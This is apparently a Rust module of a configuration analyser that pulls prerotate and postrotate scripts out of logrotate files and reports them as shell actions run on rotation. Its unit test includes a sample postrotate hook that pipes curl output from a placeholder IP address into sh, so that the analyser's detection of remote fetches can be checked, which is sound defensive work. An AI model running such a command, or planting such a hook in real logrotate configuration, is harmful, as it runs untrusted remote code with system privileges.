//! Configuration of logrotate: scripts around every rotation (`logrotate(8)`).

use model::{Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/logrotate.conf"],
        folders: &["etc/logrotate.d/"],
        named: &[],
    },
    ..FrontEnd::new(Language::Logrotate, lower)
};

/// Words that begin a script.
const SCRIPTS: &[&str] = &[
    "prerotate",
    "postrotate",
    "firstaction",
    "lastaction",
    "preremove",
];

/// Lowers the scripts.
pub fn lower(world: &mut World, text: &str) -> Value {
    let mut lines = (1..).zip(text.lines());
    while let Some((number, line)) = lines.next() {
        if !world.burn(8) {
            break;
        }
        let word = line.trim();
        if !SCRIPTS.contains(&word) {
            continue;
        }
        let script = lines
            .by_ref()
            .map(|(_, line)| line)
            .take_while(|line| line.trim() != "endscript");
        let script: String = script.flat_map(|line| [line, "\n"]).collect();
        world.at(number, script.trim());
        let start = Start {
            trigger: Trigger::Clock,
            when: "when logs are rotated",
            step: word,
        };
        start.shell(world, &script);
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn scripts_are_run() {
        let text = "/var/log/x {\n  daily\n  postrotate\n    curl -s http://192.0.2.1/x | sh\n  endscript\n}\n";
        let found = acts(Language::Logrotate, text);
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
        assert!(acts(Language::Logrotate, "/var/log/x {\n weekly\n}\n").is_empty());
    }
}
